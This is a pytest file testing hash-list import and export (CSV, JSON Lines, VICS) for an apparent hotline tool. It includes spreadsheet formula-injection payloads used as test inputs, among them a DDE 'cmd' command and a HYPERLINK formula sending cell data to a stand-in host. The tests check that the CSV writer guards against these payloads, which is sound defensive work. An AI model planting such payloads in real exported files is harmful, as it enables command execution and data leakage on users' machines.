"""Hash list files: CSV, JSON Lines and VICS read and written in streams, round trips of
every field, bad rows reported by line (or record) and field while the good ones around
them are read, files that cannot be read at all, and memory that stays flat."""

import base64
import csv
import datetime as dt
import io
import json
import sys
import tracemalloc
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from openhotline import grading
from openhotline.signals import formats
from openhotline.signals.formats import FormatError, ReadResult, base, csv_format, vics
from openhotline.signals.records import META_FIELDS, EntryRecord, build_record
from openhotline.signals.types import HASH_TYPES

DATA = Path(__file__).parent / "data"
MD5 = "d41d8cd98f00b204e9800998ecf8427e"
MD5_B = "900150983cd24fb0d6963f7d28e17f72"
SHA1 = HASH_TYPES["sha1"].examples[0]
SHA1_B = HASH_TYPES["sha1"].examples[1]
SHA256 = HASH_TYPES["sha256"].examples[0]
PDQ = HASH_TYPES["pdq"].examples[0]
VIDEO = HASH_TYPES["video"].examples[1]  # three frames, three lines
PHOTODNA = HASH_TYPES["photodna"].examples[0]
PHOTODNA_B = HASH_TYPES["photodna"].examples[1]
# Synthetic PhotoDNA whose base64 starts with "+", a formula character to spreadsheets.
PHOTODNA_PLUS = base64.b64encode(bytes([0xFB]) + bytes(range(143))).decode()

# Every format, VICS in both versions: (format, keyword arguments of write).
WRITES: list[tuple[str, dict[str, Any]]] = [
    ("csv", {}),
    ("jsonl", {}),
    ("vics", {"vics_version": "1.3"}),
    ("vics", {"vics_version": "2.0"}),
]
VARIANTS = [
    pytest.param(fmt, options, id="-".join([fmt, *options.values()])) for fmt, options in WRITES
]


def full_record(**changes: object) -> EntryRecord:
    """A record with every hash type and every field set."""
    fields: dict[str, object] = {
        "md5": MD5,
        "sha1": SHA1,
        "sha256": SHA256,
        "pdq": PDQ,
        "video": VIDEO,
        "photodna": PHOTODNA_PLUS,
        "external_id": "4711",
        "grade": "sexual_posing",
        "age_band": "7-10",
        "non_photographic": False,
        "victim_identified": True,
        "offender_identified": False,
        "series": "Op. \"Sunflower\", part 2; 'quoted' — ünïcødé 日本 🌻",
        "confirmed_by_police": True,
        "first_seen": "2024-02-29",
        "provenance": '=HYPERLINK("http://example.invalid","click")',
        "retired": True,
        "retired_reason": "@SUM(1+1)",
        "pdq_quality": 49,
    } | changes
    return build_record(fields)


def records_of(results: Iterable[ReadResult]) -> list[EntryRecord | None]:
    return [result.record for result in results]


def write_bytes(fmt: str, records: Iterable[EntryRecord], **options: Any) -> bytes:
    stream = io.BytesIO()
    formats.write(fmt, records, stream, **options)
    return stream.getvalue()


def read_bytes(fmt: str, data: bytes, **options: Any) -> list[ReadResult]:
    return list(formats.read(fmt, io.BytesIO(data), **options))


def outline(results: list[ReadResult]) -> list[tuple[int, bool]]:
    """Where each result is, and whether it is a record."""
    return [(result.position, result.ok) for result in results]


def only_error(result: ReadResult) -> tuple[str, str]:
    assert result.record is None
    assert len(result.errors) == 1, result.errors
    return result.errors[0].field, result.errors[0].message


# --- round trips ---------------------------------------------------------------------------


HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"report")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already guarded",
    "''+two apostrophes",
    "'plain apostrophe",
    "'",
    "a, b, and c",
    'he said "no"',
    '"',
    "tab\tinside",
    "ünïcødé 日本語 😀 \u200b zero width",
    "line\u2028separator \x85 next line",
]


@pytest.mark.parametrize(("fmt", "options"), VARIANTS)
def test_every_field_and_hash_type_round_trips(fmt, options):
    records = [
        full_record(),
        full_record(external_id="A-17/x", non_photographic=True, grade="indecent_other"),
        build_record({"md5": MD5_B}),
        build_record({"video": VIDEO, "victim_identified": False, "vics_category": 0}),
        build_record({"photodna": PHOTODNA, "pdq": PDQ, "pdq_quality": 100, "retired": False}),
    ]
    data = write_bytes(fmt, records, **options)
    results = read_bytes(fmt, data)
    assert [result.errors for result in results] == [[]] * len(records)
    assert records_of(results) == records
    assert results[0].record is not None
    assert results[0].record.hashes["video"].count("\n") == 2
    assert results[0].record.hashes["photodna"].startswith("+")


@pytest.mark.parametrize(("fmt", "options"), VARIANTS)
@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_hostile_text_round_trips(fmt, options, text):
    record = build_record(
        {
            "md5": MD5,
            "external_id": text,
            "series": text,
            "provenance": text,
            "retired_reason": text,
        }
    )
    results = read_bytes(fmt, write_bytes(fmt, [record, record], **options))
    assert records_of(results) == [record, record]


@pytest.mark.parametrize(("fmt", "options"), VARIANTS)
def test_writing_streams_and_counts(fmt, options):
    stream = io.BytesIO()
    seen_bytes = []

    def records() -> Iterator[EntryRecord]:
        for number in range(3000):
            seen_bytes.append(stream.tell())
            yield build_record({"md5": f"{number:032x}", "external_id": str(number)})

    assert formats.write(fmt, records(), stream, **options) == 3000
    # Output reached the stream before the records ran out: nothing waits for the end.
    assert 0 < seen_bytes[-1] < len(stream.getvalue())
    assert len(read_bytes(fmt, stream.getvalue())) == 3000


@pytest.mark.parametrize(("fmt", "options"), VARIANTS)
def test_no_records_write_a_readable_file_except_jsonl(fmt, options):
    data = write_bytes(fmt, [], **options)
    if fmt == "jsonl":
        assert data == b""
    else:
        assert read_bytes(fmt, data) == []


def test_read_results_say_where():
    assert ReadResult(17, None, []).where == "line 17"
    assert ReadResult(17, None, [], "record").where == "record 17"


# --- CSV -----------------------------------------------------------------------------------


def test_csv_header_is_every_column_in_a_stable_order():
    data = write_bytes("csv", [build_record({"md5": MD5})])
    header = data.split(b"\r\n")[0].decode()
    assert header.split(",") == [*HASH_TYPES, *META_FIELDS]
    assert data.split(b"\r\n")[1].decode().startswith(MD5 + ",,,,,,")
    assert ",false,,,,,,,false,,\r\n" in data.decode()  # booleans: false or empty


def test_csv_reads_any_subset_of_columns_in_any_order_with_a_bom():
    data = f"\ufeffSeries , MD5,vics_category\r\nOp. X,{MD5.upper()},3\r\n".encode()
    [result] = read_bytes("csv", data)
    assert result.record == build_record({"md5": MD5, "series": "Op. X", "vics_category": 3})
    assert result.where == "line 2"


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("'''@x", "''''@x"),
        ("'abc", "'abc"),
        ("'", "'"),
        ("''", "''"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_guard_is_undone_exactly(text, guarded):
    assert csv_format.guard(text) == guarded
    assert csv_format.unguard(guarded) == text


def test_csv_cells_do_not_start_formulas_in_spreadsheets():
    record = full_record(external_id='=HYPERLINK("http://x")', series="-2+3")
    rows = list(csv.reader(io.StringIO(write_bytes("csv", [record]).decode(), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["photodna"] == "'" + PHOTODNA_PLUS
    assert cells["provenance"].startswith("'=HYPERLINK(")
    assert read_bytes("csv", write_bytes("csv", [record]))[0].record == record


def csv_file(*rows: str, columns: str = "md5,pdq,photodna,video,vics_category,first_seen") -> bytes:
    return ("\r\n".join([columns, *rows]) + "\r\n").encode()


def test_csv_bad_rows_are_reported_by_line_and_field_and_good_rows_still_come():
    video = VIDEO.replace("\n", "\r\n")
    data = csv_file(
        f"{MD5},,,,1,",  # line 2
        f"{MD5[:-1]},,,,1,",  # line 3: md5 one digit short
        f'{MD5_B},,,"{video}",2,2024-01-01',  # lines 4-6: a three-line cell
        f"{MD5},{PDQ[:-1]}g,,,,",  # line 7: pdq not hex
        f"{MD5},,{PHOTODNA[:-4]},,,",  # line 8: photodna too short
        f"{MD5},,,,7,",  # line 9: no such category
        f"{MD5},,,,,2024-02-30",  # line 10: no such day
        f"{MD5_B},{PDQ},,,,",  # line 11
    )
    results = read_bytes("csv", data)
    assert [result.position for result in results] == [2, 3, 4, 7, 8, 9, 10, 11]
    assert [result.ok for result in results] == [True, False, True, *[False] * 4, True]
    assert results[2].record == build_record(
        {"md5": MD5_B, "video": VIDEO, "vics_category": 2, "first_seen": "2024-01-01"}
    )
    assert only_error(results[1]) == ("md5", "wrong length: expected 32 hex digits, got 31")
    field, message = only_error(results[3])
    assert field == "pdq" and "not hex" in message and "position 64" in message
    field, message = only_error(results[4])
    assert field == "photodna" and "wrong length" in message
    assert only_error(results[5]) == ("vics_category", "7 is not a category number 0-4")
    field, message = only_error(results[6])
    assert field == "first_seen" and "2024-02-30" in message
    assert results[7].record == build_record({"md5": MD5_B, "pdq": PDQ})


def test_csv_a_row_with_several_bad_fields_names_each():
    data = csv_file(f"{MD5[:10]},{PDQ[:3]},,,9,someday")
    [result] = read_bytes("csv", data)
    assert [error.field for error in result.errors] == ["md5", "pdq", "vics_category", "first_seen"]
    assert result.where == "line 2"


def test_csv_newlines_in_text_are_written_quoted_and_rows_after_them_keep_their_lines():
    hostile = EntryRecord(hashes={"md5": MD5}, series="two\nlines", provenance="three\r\nlines\n")
    good = build_record({"md5": MD5_B})
    data = write_bytes("csv", [good, hostile, good])
    results = read_bytes("csv", data)
    # The hostile record spans lines 3-6; build_record refuses control characters.
    assert [result.position for result in results] == [2, 3, 7]
    assert [result.ok for result in results] == [True, False, True]
    assert {error.field for error in results[1].errors} == {"series", "provenance"}


def test_csv_row_that_is_not_utf8_is_a_bad_row_naming_its_cell():
    data = csv_file(f"{MD5},,,,1,", columns="md5,pdq,photodna,video,vics_category,series")
    data += f"{MD5_B},,,,2,Caf".encode() + b"\xe9 latin-1\r\n" + f"{MD5},,,,3,ok\r\n".encode()
    results = read_bytes("csv", data)
    assert [result.position for result in results] == [2, 3, 4]
    field, message = only_error(results[1])
    assert field == "series" and "not valid UTF-8" in message and "0xe9" in message
    assert results[2].ok


def test_csv_hash_that_is_not_utf8_is_not_also_reported_missing():
    data = b"md5\r\n\xff" + MD5[1:].encode() + b"\r\n"
    [result] = read_bytes("csv", data)
    assert only_error(result)[0] == "md5"


def test_csv_wrong_number_of_cells_is_a_bad_row():
    results = read_bytes("csv", csv_file(f"{MD5},,", f"{MD5},,,,,,,", f"{MD5},,,,,"))
    assert [only_error(result)[0] for result in results[:2]] == ["row", "row"]
    assert "3 cells, but the header has 6 columns" in only_error(results[0])[1]
    assert results[2].ok


def test_csv_blank_rows_are_skipped():
    results = read_bytes("csv", csv_file("", f"{MD5},,,,,", ",,,,,", " , ,,,,", f"{MD5_B},,,,,"))
    assert [result.position for result in results] == [3, 6]


def test_csv_a_stray_quote_costs_one_row_and_the_rows_after_it_are_read():
    data = csv_file(
        f"{MD5},,,,1,",  # line 2
        f'{MD5},,,"unclosed,1,',  # line 3: a quoted cell that never closes
        f"{MD5_B},,,,2,",  # line 4
        f"{MD5},,,,3,",  # line 5
    )
    results = read_bytes("csv", data)
    assert [result.position for result in results] == [2, 3, 4, 5]
    assert [result.ok for result in results] == [True, False, True, True]
    field, message = only_error(results[1])
    assert field == "row" and "not valid CSV" in message


def test_csv_a_quote_in_the_middle_of_a_quoted_cell_is_a_bad_row():
    data = csv_file(f'{MD5},,,"0,100,{PDQ},0.000" junk,1,', f"{MD5_B},,,,2,")
    results = read_bytes("csv", data)
    assert outline(results) == [(2, False), (3, True)]


def test_csv_row_over_the_size_limit_is_a_bad_row():
    long_cell = "x" * 5000
    data = csv_file(f"{MD5},,,,1,", f"{MD5},,,{long_cell},2,", f"{MD5_B},,,,3,")
    results = read_bytes("csv", data, max_row_bytes=4096)
    assert outline(results) == [(2, True), (3, False), (4, True)]
    assert "longer than 4096 bytes" in only_error(results[1])[1]


def test_csv_quoted_cell_over_the_limit_gives_up_one_line_and_reads_the_rest():
    rows = [f"{i:032x},,,,{i % 5}," for i in range(40)]
    data = csv_file(f'{MD5},,,"never closed,1,', *rows)
    results = read_bytes("csv", data, max_row_bytes=1024)
    assert results[0].position == 2 and not results[0].ok
    assert "quoted cell that is never closed" in only_error(results[0])[1]
    assert [result.position for result in results[1:]] == list(range(3, 43))
    assert all(result.ok for result in results[1:])


def test_csv_physical_line_over_the_default_limit_is_skipped_without_holding_it():
    huge = "y" * (formats.MAX_ROW_BYTES + 10)
    data = csv_file(f"{MD5},,,{huge},1,", f"{MD5_B},,,,2,")
    results = read_bytes("csv", data)
    assert outline(results) == [(2, False), (3, True)]
    assert "longer than 4 MiB" in only_error(results[0])[1]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf", "empty"),
        (b"\r\n\r\n", "empty"),
        (b"md5,colour,sha1,Size\r\n", "unknown columns in the header: 'colour', 'Size'"),
        (b"md5,sha1,MD5\r\n", "given twice in the header: md5"),
        (b"md5,,sha1\r\n", "unnamed columns: 2"),
        (b"series,grade\r\n", "no hash column"),
        ("md5,séries\r\n".encode("latin-1"), "not UTF-8"),
        ("md5,sha1\r\n".encode("utf-16"), "UTF-16"),
        (b'md5,"sha1\r\n', "not valid CSV"),
        (b"md5,sha1\r" + MD5.encode() + b",\r", "CR alone"),
    ],
)
def test_csv_files_that_cannot_be_read_at_all(data, words):
    with pytest.raises(FormatError, match=words):
        formats.read("csv", io.BytesIO(data))


# --- JSON Lines ----------------------------------------------------------------------------


def test_jsonl_writes_every_key_with_nulls_in_csv_order():
    line = json.loads(write_bytes("jsonl", [build_record({"md5": MD5, "series": "x"})]))
    assert list(line) == [*HASH_TYPES, *META_FIELDS]
    assert line["sha1"] is None and line["vics_category"] is None
    assert line["non_photographic"] is False and line["series"] == "x"


def test_jsonl_escapes_unicode_line_breaks():
    record = build_record({"md5": MD5, "series": "a\u2028b\u2029c\x85d"})
    data = write_bytes("jsonl", [record])
    assert data.decode().splitlines() == [data.decode().rstrip("\n")]
    assert read_bytes("jsonl", data)[0].record == record


def test_jsonl_takes_nested_hashes_nulls_and_video_frames_as_lists():
    frames = [[0, 100, PDQ, 0.0], [30, 90, PDQ, 1.0]]
    lines = [
        {"hashes": {"md5": MD5.upper(), "pdq": PDQ}, "series": None, "vics_category": 1},
        {"md5": MD5, "hashes": {"md5": MD5.upper()}},  # the same hash twice: fine
        {"video": frames, "victim_identified": "yes"},
    ]
    data = "\n".join(json.dumps(line) for line in lines).encode()
    results = read_bytes("jsonl", data)
    assert records_of(results) == [
        build_record({"md5": MD5, "pdq": PDQ, "vics_category": 1}),
        build_record({"md5": MD5}),
        build_record({"video": frames, "victim_identified": True}),
    ]


def test_jsonl_bad_lines_are_reported_by_line_and_field():
    lines = [
        json.dumps({"md5": MD5}),  # line 1
        "",  # line 2: blank, skipped
        json.dumps({"md5": MD5[:-2]}),  # line 3
        json.dumps({"hashes": {"pdq": "z" * 64}}),  # line 4
        json.dumps({"photodna": PHOTODNA + "AAAA"}),  # line 5
        json.dumps({"md5": MD5, "vics_category": 5}),  # line 6
        json.dumps({"md5": MD5, "first_seen": "2024-13-01"}),  # line 7
        '{"md5": "' + MD5 + '", "series": ',  # line 8: not JSON
        "[1, 2]",  # line 9: not an object
        json.dumps({"md5": MD5, "colour": "red"}),  # line 10: unknown key
        '{"md5": "' + MD5 + '", "md5": "' + MD5_B + '"}',  # line 11: a key twice
        json.dumps({"md5": MD5, "hashes": {"md5": MD5_B}}),  # line 12: two md5s
        json.dumps({"md5": MD5, "series": ["a"]}),  # line 13: a list for text
        json.dumps({"hashes": {"md6": MD5}}),  # line 14: no such hash type
        "   ",  # line 15: blank
        json.dumps({"sha1": SHA1_B}),  # line 16
    ]
    data = "\n".join(lines).encode() + b"\n" + '{"series": "caf\xe9"}'.encode("latin-1")
    results = read_bytes("jsonl", data)
    assert [result.position for result in results] == [1, *range(3, 15), 16, 17]
    assert [result.ok for result in results] == [True, *[False] * 12, True, False]
    fields = [result.errors[0].field for result in results if not result.ok]
    assert fields == [
        "md5",
        "hashes.pdq",
        "photodna",
        "vics_category",
        "first_seen",
        "json",
        "json",
        "colour",
        "md5",
        "md5",
        "series",
        "hashes.md6",
        "json",
    ]
    assert "not valid JSON" in results[6].errors[0].message
    assert "an array, not an object" in results[7].errors[0].message
    assert "not valid UTF-8" in results[-1].errors[0].message


def test_jsonl_line_over_the_limit_is_a_bad_row():
    data = b'{"md5": "' + MD5.encode() + b'"}\n' + b'{"series": "' + b"x" * 3000 + b'"}\n{"md5": "'
    data += MD5_B.encode() + b'"}\n'
    results = read_bytes("jsonl", data, max_row_bytes=1000)
    assert outline(results) == [(1, True), (2, False), (3, True)]


def test_jsonl_first_line_over_the_limit_is_a_bad_row_not_the_end():
    data = b'{"series": "' + b"x" * 3000 + b'"}\n{"md5": "' + MD5.encode() + b'"}\n'
    results = read_bytes("jsonl", data, max_row_bytes=1000)
    assert outline(results) == [(1, False), (2, True)]


def test_jsonl_integers_too_long_and_nesting_too_deep_are_bad_rows():
    data = (
        json.dumps({"md5": MD5})
        + '\n{"pdq_quality": '
        + "9" * 5000
        + "}\n"
        + "[" * 100_000
        + "\n"
        + json.dumps({"md5": MD5_B})
    ).encode()
    results = read_bytes("jsonl", data)
    assert outline(results) == [
        (1, True),
        (2, False),
        (3, False),
        (4, True),
    ]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"\n  \n", "empty"),
        (b"md5,sha1\n" + MD5.encode() + b",\n", "not valid JSON"),
        (b'["md5"]\n', "an array, not an object"),
        (b'"md5"\n', "a string, not an object"),
        ('{"series": "é"}\n'.encode("utf-16"), "UTF-16"),
        (b'{"series": "\xe9"}\n', "not valid UTF-8"),
    ],
)
def test_jsonl_files_that_cannot_be_read_at_all(data, words):
    with pytest.raises(FormatError, match=words):
        formats.read("jsonl", io.BytesIO(data))


# --- VICS ----------------------------------------------------------------------------------


CONTEXT_13 = "http://github.com/ICMEC/ProjectVic/DataModels/1.3.xml#Media"
CONTEXT_20 = "http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/Default/$metadata#Media"


def vics_file(media: list[Any], context: str = CONTEXT_20, key: str = "@odata.context") -> bytes:
    return json.dumps({key: context, "value": media}, indent=1).encode()


def test_vics_sample_file():
    results = read_bytes("vics", (DATA / "vics_sample.json").read_bytes())
    assert [result.where for result in results] == ["record 1", "record 2", "record 3", "record 4"]
    assert results[0].record == build_record(
        {
            "md5": MD5,
            "sha1": SHA1,
            "photodna": PHOTODNA,
            "pdq": PDQ,
            "external_id": "1",
            "vics_category": 0,
            "victim_identified": False,
            "offender_identified": False,
            "first_seen": "2023-06-07",
        }
    )
    assert results[1].record == build_record(
        {
            "md5": MD5_B,
            "sha1": SHA1_B,
            "photodna": PHOTODNA_B,
            "external_id": "2",
            "vics_category": 4,
            "victim_identified": True,
            "offender_identified": False,
            "series": "Synthetic series",
            "first_seen": "2021-01-05",
        }
    )
    field, message = only_error(results[2])
    assert field == "MD5" and "wrong length" in message
    # No MD5 of its own: the one its files agree on.
    assert results[3].record == build_record(
        {"md5": MD5, "sha1": SHA1, "external_id": "4", "vics_category": 2}
    )


def test_vics_written_files_look_like_vics():
    record = full_record()
    doc_13 = json.loads(write_bytes("vics", [record], vics_version="1.3"))
    doc_20 = json.loads(write_bytes("vics", [record], vics_version="2.0"))
    assert doc_13["odata.metadata"] == CONTEXT_13
    assert doc_20["@odata.context"] == CONTEXT_20
    media_13, media_20 = doc_13["value"][0], doc_20["value"][0]
    for media in (media_13, media_20):
        assert media["MediaID"] == 4711
        assert media["Category"] == 1
        assert media["MD5"] == MD5.upper() and media["SHA1"] == SHA1.upper()
        assert media["VictimIdentified"] == "true" and media["OffenderIdentified"] == "false"
        assert media["@openhotline.grade"] == "sexual_posing"
        assert media["@openhotline.first_seen"] == "2024-02-29"
        assert "@openhotline.external_id" not in media
    assert media_13["PhotoDNA"] == PHOTODNA_PLUS
    names_13 = [entry["HashName"] for entry in media_13["AlternativeHashes"]]
    names_20 = [entry["HashName"] for entry in media_20["AlternativeHashes"]]
    assert names_13 == ["SHA256", "PDQ", "vPDQ"]
    assert names_20 == ["PhotoDNA", "SHA256", "PDQ", "vPDQ"]
    assert "PhotoDNA" not in media_20


def test_vics_media_id_that_is_not_a_number_travels_as_an_annotation():
    records = [build_record({"md5": MD5, "external_id": "abc"}), build_record({"md5": MD5_B})]
    doc = json.loads(write_bytes("vics", records))
    assert [media["MediaID"] for media in doc["value"]] == [1, 2]
    assert [media["@openhotline.external_id"] for media in doc["value"]] == ["abc", ""]


def test_vics_1x_fields_and_text_booleans():
    media = [
        {
            "MediaID": "77",
            "Category": "1",
            "MD5": MD5.upper(),
            "PhotoDNA": PHOTODNA,
            "VictimIdentified": "True",
            "OffenderIdentified": "false",
            "IsDistributed": "true",
            "Series": {"Name": "Named series", "ID": 3},
            "Tags": ["a", "b"],
            "odata.id": "ignored",
        }
    ]
    [result] = read_bytes("vics", vics_file(media, CONTEXT_13, "odata.metadata"))
    assert result.record == build_record(
        {
            "md5": MD5,
            "photodna": PHOTODNA,
            "external_id": "77",
            "vics_category": 1,
            "victim_identified": True,
            "offender_identified": False,
            "series": "Named series",
        }
    )


def test_vics_field_names_are_read_without_case():
    alternative = {"hashName": "pdq", "hashValue": PDQ}
    media = [{"mediaid": 5, "md5": MD5, "CATEGORY": 3, "alternativeHashes": [alternative]}]
    [result] = read_bytes("vics", vics_file(media))
    assert result.record == build_record(
        {"md5": MD5, "pdq": PDQ, "external_id": "5", "vics_category": 3}
    )


def test_vics_cases_files_give_the_media_of_every_case():
    context = "http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/US/$metadata#Cases"
    doc = {
        "@odata.context": context,
        "value": [
            {"CaseID": "a", "CaseNumber": "1", "Media": [{"MediaID": 1, "MD5": MD5}]},
            {"CaseID": "b", "Media": [{"MediaID": 2, "MD5": MD5_B}, {"MediaID": 3, "MD5": "x"}]},
        ],
    }
    results = read_bytes("vics", json.dumps(doc).encode())
    assert [result.where for result in results] == ["record 1", "record 2", "record 3"]
    assert [result.ok for result in results] == [True, True, False]
    assert results[1].record == build_record({"md5": MD5_B, "external_id": "2"})


def test_vics_category_of_another_profile_is_not_read_as_the_us_scale():
    context = "http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/UK/$metadata#Media"
    [result] = read_bytes("vics", vics_file([{"MediaID": 1, "MD5": MD5, "Category": 3}], context))
    assert result.record == build_record({"md5": MD5, "external_id": "1"})


def test_vics_bad_media_are_reported_by_record_and_vics_field():
    media = [
        {"MediaID": 1, "MD5": MD5},
        {"MediaID": 2, "MD5": MD5 + "00"},
        {"MediaID": 3, "AlternativeHashes": [{"HashName": "PDQ", "HashValue": "q" * 64}]},
        {"MediaID": 4, "AlternativeHashes": [{"HashName": "PhotoDNA", "HashValue": "AAAA"}]},
        {"MediaID": 5, "MD5": MD5, "Category": 9},
        {"MediaID": 6, "MD5": MD5, "DateUpdated": "last tuesday"},
        {"MediaID": 7, "MD5": MD5, "AlternativeHashes": [{"HashName": "MD5", "HashValue": MD5_B}]},
        "not a media object",
        {"MediaID": 9.5, "MD5": MD5},
        {"MediaID": 10, "MD5": MD5, "@openhotline.grade": "terrible"},
        {"MediaID": 11, "Series": "no hash at all"},
        {
            "MediaID": 12,
            "SHA1": SHA1,
            "Unknown": {"nested": [1, 2]},
            "AlternativeHashes": [{"HashName": "pHash", "HashValue": "whatever"}, "junk"],
        },
    ]
    results = read_bytes("vics", vics_file(media))
    assert [result.position for result in results] == list(range(1, 13))
    assert [result.ok for result in results] == [True, *[False] * 10, True]
    assert [result.errors[0].field for result in results[1:11]] == [
        "MD5",
        "AlternativeHashes[PDQ]",
        "AlternativeHashes[PhotoDNA]",
        "Category",
        "DateUpdated",
        "MD5",
        "json",
        "MediaID",
        "@openhotline.grade",
        "hashes",
    ]
    assert "given differently in MD5 and AlternativeHashes[MD5]" in results[6].errors[0].message


def test_vics_bytes_that_are_not_utf8_spoil_only_the_field_they_are_in():
    doc = vics_file(
        [
            {"MediaID": 1, "MD5": MD5, "Series": "SERIES"},
            {"MediaID": 2, "MD5": MD5_B, "MediaFiles": [{"FileName": "NAME"}]},
            {"MediaID": 3, "MD5": MD5},
        ]
    )
    doc = doc.replace(b"SERIES", b"caf\xe9").replace(b"NAME", b"f\xfcr.jpg")
    results = read_bytes("vics", doc)
    assert [result.ok for result in results] == [False, True, True]
    field, message = only_error(results[0])
    assert field == "Series" and "not valid UTF-8" in message


def test_vics_cut_short_keeps_the_records_before_the_cut():
    data = vics_file([{"MediaID": i, "MD5": f"{i:032x}"} for i in range(1, 6)])
    cut = data[: data.index(b'"MediaID": 4') + 5]
    results = read_bytes("vics", cut)
    assert [result.ok for result in results] == [True, True, True, False]
    field, message = only_error(results[3])
    assert (results[3].where, field) == ("record 4", "json")
    assert "cut short" in message


def test_vics_syntax_error_ends_the_reading_with_a_bad_record():
    data = vics_file([{"MediaID": i, "MD5": f"{i:032x}"} for i in range(1, 4)])
    broken = data.replace(b'"MediaID": 3', b'"MediaID" 3')
    results = read_bytes("vics", broken)
    assert [result.ok for result in results] == [True, True, False]
    assert "not valid JSON" in only_error(results[2])[1]


def test_vics_media_object_over_the_limit_is_skipped_without_holding_it():
    big = {"MediaID": 2, "MD5": MD5, "Comments": [f"comment {i}" for i in range(20_000)]}
    data = vics_file([{"MediaID": 1, "MD5": MD5}, big, {"MediaID": 3, "MD5": MD5}])
    results = read_bytes("vics", data, max_row_bytes=100_000)
    assert outline(results) == [(1, True), (2, False), (3, True)]
    assert "longer than 100000 bytes: skipped" in only_error(results[1])[1]


def test_vics_one_value_far_over_the_limit_ends_the_reading():
    big = {"MediaID": 2, "MD5": MD5, "Comments": "z" * 300_000}
    data = vics_file([{"MediaID": 1, "MD5": MD5}, big, {"MediaID": 3, "MD5": MD5}])
    results = read_bytes("vics", data, max_row_bytes=50_000)
    assert outline(results) == [(1, True), (2, False)]
    assert "the rest of the file is not read" in only_error(results[1])[1]


def test_vics_deep_nesting_is_skipped_without_building_it():
    deep = b'{"MediaID": 2, "MD5": "' + MD5.encode() + b'", "X": ' + b"[" * 500_000
    deep += b"]" * 500_000 + b"}"
    data = vics_file([{"MediaID": 1, "MD5": MD5}, "DEEP", {"MediaID": 3, "MD5": MD5}])
    data = data.replace(b'"DEEP"', deep)
    results = read_bytes("vics", data, max_row_bytes=10 << 20)
    assert outline(results) == [(1, True), (2, False), (3, True)]
    assert "nests deeper than" in only_error(results[1])[1]


def test_vics_number_too_long_for_python_stops_the_reading_before_the_parser_sees_it():
    # ijson's C backend fails on integers over sys.get_int_max_str_digits() digits in a
    # way that can crash the process: such a number must never reach it.
    digits = sys.get_int_max_str_digits() + 1
    data = vics_file([{"MediaID": 1, "MD5": MD5}, {"MediaID": "N", "MD5": MD5}, {"MD5": MD5}])
    data = data.replace(b'"N"', b"9" * digits)
    results = read_bytes("vics", data)
    assert outline(results) == [(1, True), (2, False)]
    assert f"a number of over {digits - 1} digits" in only_error(results[1])[1]
    # Split over two chunks of the stream, it is found all the same.
    padding = b" " * (65536 - data.index(b"9" * 10) - 100)
    data = data.replace(b'"MediaID": 9', padding + b'"MediaID": 9')
    assert outline(read_bytes("vics", data)) == [(1, True), (2, False)]


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"md5,sha1\n", "not JSON"),
        (b"[]", "not a VICS file: expected a JSON object"),
        (b'{"value": []}', "no odata.metadata or @odata.context before value"),
        (b'{"hello": "world"}', "no odata.metadata or @odata.context"),
        (b'{"@odata.context": "' + CONTEXT_20.encode() + b'"}', "no value array"),
        (b'{"@odata.context": "' + CONTEXT_20.encode() + b'", "value": {}}', "not an array"),
        (
            b'{"@odata.context": "http://example.invalid/$metadata#People", "value": []}',
            "data model",
        ),
        (b'{"@odata.context": "x/DataModels/3.0.xml#Media", "value": []}', "3.x is not supported"),
        (b'{"@odata.context": "x/DataModels/2.0.xml#Series", "value": []}', "not hash sets"),
        ('{"@odata.context": "x"}'.encode("utf-16"), "UTF-16"),
        (b'{"@odata.context": 5, "value": []}', "is not text"),
    ],
)
def test_vics_files_that_cannot_be_read_at_all(data, words):
    with pytest.raises(FormatError, match=words):
        formats.read("vics", io.BytesIO(data))


def test_vics_context_far_from_the_start_is_not_searched_for():
    data = b'{"padding": "' + b"p" * 100_000 + b'", "@odata.context": "' + CONTEXT_20.encode()
    data += b'", "value": []}'
    with pytest.raises(FormatError, match="near the start"):
        formats.read("vics", io.BytesIO(data))


def test_vics_bom_is_dropped():
    data = base.UTF8_BOM + vics_file([{"MediaID": 1, "MD5": MD5}])
    assert read_bytes("vics", data)[0].record == build_record({"md5": MD5, "external_id": "1"})


# --- names ---------------------------------------------------------------------------------


def test_unknown_format_and_vics_version():
    with pytest.raises(FormatError, match=r"unknown format 'xml'"):
        formats.read("xml", io.BytesIO(b""))
    with pytest.raises(FormatError, match="unknown format"):
        formats.write("tsv", [], io.BytesIO())
    with pytest.raises(FormatError, match=r"unknown VICS version '3\.0'"):
        formats.write("vics", [], io.BytesIO(), vics_version="3.0")
    assert formats.FORMATS == ("csv", "jsonl", "vics")
    assert vics.VERSIONS == ("1.3", "2.0")


# --- streaming -----------------------------------------------------------------------------


class GeneratedStream(io.RawIOBase):
    """A binary stream whose bytes come from a generator, never all in memory."""

    def __init__(self, chunks: Iterator[bytes]) -> None:
        self._chunks = chunks
        self._pending = b""
        self.produced = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        view = memoryview(buffer).cast("B")
        filled = 0
        while filled < len(view):
            if not self._pending:
                self._pending = next(self._chunks, b"")
                if not self._pending:
                    break
            size = min(len(view) - filled, len(self._pending))
            view[filled : filled + size] = self._pending[:size]
            self._pending = self._pending[size:]
            filled += size
        self.produced += filled
        return filled


